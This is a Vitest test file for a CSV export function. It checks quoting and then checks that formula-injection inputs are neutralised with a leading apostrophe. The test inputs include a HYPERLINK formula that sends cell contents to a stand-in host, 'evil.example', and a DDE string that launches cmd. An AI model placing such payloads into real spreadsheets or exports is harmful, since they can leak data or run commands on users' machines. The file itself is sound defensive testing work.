import { expect, test } from 'vitest'
import { toCsv } from './toCsv.js'

test('parameters: texts are quoted, numbers are not', () => {
  expect(toCsv(['day', 'n'], [['2026-01-31', 3]])).toBe('"day","n"\r\n"2026-01-31",3\r\n')
  expect(toCsv(['a'], [['say "no", twice'], ['two\r\nlines']])).toBe('"a"\r\n"say ""no"", twice"\r\n"two\r\nlines"\r\n')
})

test.each([
  '=HYPERLINK("https://evil.example?"&A1)',
  '+1+cmd|" /C calc"!A0',
  '-2+3',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  ' =1',
  '\n=1',
  '|calc',
  '%0A=1',
])('attack: %j is no formula in a spreadsheet', (name) => {
  const [, cell = ''] = /^"name"\r\n"(.*)"\r\n$/s.exec(toCsv(['name'], [[name]])) ?? []
  expect(cell.startsWith("'")).toBe(true)
})
